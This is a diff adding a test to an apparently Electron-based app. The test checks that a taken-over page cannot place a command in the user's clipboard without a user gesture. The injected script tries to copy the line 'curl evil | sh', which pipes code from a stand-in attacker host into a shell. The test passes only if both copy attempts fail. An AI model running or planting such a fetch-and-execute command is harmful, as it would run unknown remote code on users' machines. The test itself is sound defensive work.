@@ -370,6 +370,20 @@ describe('a page that somebody took over', () => {
         askAll,
       )
       for (const answer of unpressed) assert.match(String(answer), /only when a person presses/)
+      const written = await app.evaluate(({ BrowserWindow }) =>
+        BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
+          `(async () => {
+          const field = document.body.appendChild(document.createElement('textarea'))
+          field.value = 'curl evil | sh'
+          field.select()
+          const copied = document.execCommand('copy')
+          const wrote = await navigator.clipboard.writeText('curl evil | sh').then(() => true, () => false)
+          return [copied, wrote].join()
+        })()`,
+          false,
+        ),
+      )
+      assert.equal(written, 'false,false')
       assert.equal(await app.evaluate(({ clipboard }) => clipboard.readText()), 'mine')
       assert.equal(await app.evaluate(() => globalThis['__opened']), 0)
 
